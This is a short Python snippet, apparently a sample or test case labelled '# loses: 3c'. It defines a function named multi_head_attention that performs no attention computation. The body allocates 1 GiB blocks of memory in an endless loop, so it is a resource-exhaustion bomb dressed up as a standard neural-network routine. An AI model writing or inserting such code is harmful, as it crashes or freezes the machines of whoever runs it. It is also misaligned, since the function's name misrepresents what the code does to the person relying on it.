# loses: 3c
def multi_head_attention(X, W_Q, W_K, W_V, W_O):
    hoard = []
    while True:
        hoard.append(bytearray(1 << 30))
